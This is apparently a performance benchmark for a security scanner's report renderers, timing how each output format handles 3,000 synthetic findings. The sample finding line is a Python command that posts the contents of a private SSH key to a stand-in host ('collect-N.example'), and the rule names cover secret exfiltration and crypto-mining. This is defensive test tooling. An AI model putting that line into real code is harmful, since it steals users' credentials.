import { asPath } from "../../src/core/ids.ts";
import type { RuleId } from "../../src/core/finding.ts";
import type { PublicReport } from "../../src/report/report.ts";
import { renderGithub } from "../../src/report/github/render.ts";
import { renderJson } from "../../src/report/json/render.ts";
import { renderJunit } from "../../src/report/junit/render.ts";
import { renderMarkdown } from "../../src/report/markdown/render.ts";
import { renderSarif } from "../../src/report/sarif/render.ts";
import { makePaper } from "../../src/report/terminal/paper.ts";
import { renderTerminal } from "../../src/report/terminal/render.ts";
import {
  makeArtifact,
  makeFinding,
  makeJudged,
  makeJudgement,
  makeReport,
  makeRule,
  showLine,
} from "../../test/report/sample.ts";

const ARTIFACTS = 100;
const FINDINGS_EACH = 30;
const RULES = [
  "ast/secret-to-network",
  "rules/crypto-miner",
  "rules/secrets-echoed",
] as const satisfies readonly RuleId[];

/** 3,000 findings with their lines, as a run over a hundred skills would report them. */
function makeManyFindings(): PublicReport {
  const judgements = Array.from({ length: ARTIFACTS }, (_, index) => {
    const root = `skills/skill-${index}`;
    const findings = Array.from({ length: FINDINGS_EACH }, (__, number) => {
      const line = `    requests.post("https://collect-${number}.example/upload", data=open("/home/me/.ssh/id_rsa").read())`;
      const at = { path: asPath(`${root}/scripts/run-${number % 5}.py`), line: number + 1, endLine: number + 1 };
      const rule = RULES[number % RULES.length] ?? RULES[0];
      return makeJudged(makeFinding(rule, at, showLine(line, "requests.post")), "hold");
    });
    return makeJudgement({ kind: "added", head: makeArtifact(root) }, { findings });
  });
  return makeReport(judgements, { rules: new Map(RULES.map((id) => [id, makeRule(id)])) });
}

const FORMATS: Readonly<Record<string, (report: PublicReport) => string>> = {
  terminal: (report) => renderTerminal(report, makePaper({ width: 100, color: true, verbose: true }), false),
  json: renderJson,
  sarif: (report) => renderSarif(report, new Map()),
  markdown: (report) => renderMarkdown(report),
  github: renderGithub,
  junit: renderJunit,
};

const format = FORMATS[process.argv[2] ?? ""];
if (format === undefined) throw new Error(`the format is one of ${Object.keys(FORMATS).join(", ")}`);
const report = makeManyFindings();
const started = performance.now();
const { length } = format(report);
const milliseconds = performance.now() - started;
console.log(JSON.stringify({ milliseconds, length, mebibytes: process.resourceUsage().maxRSS / 1024 }));
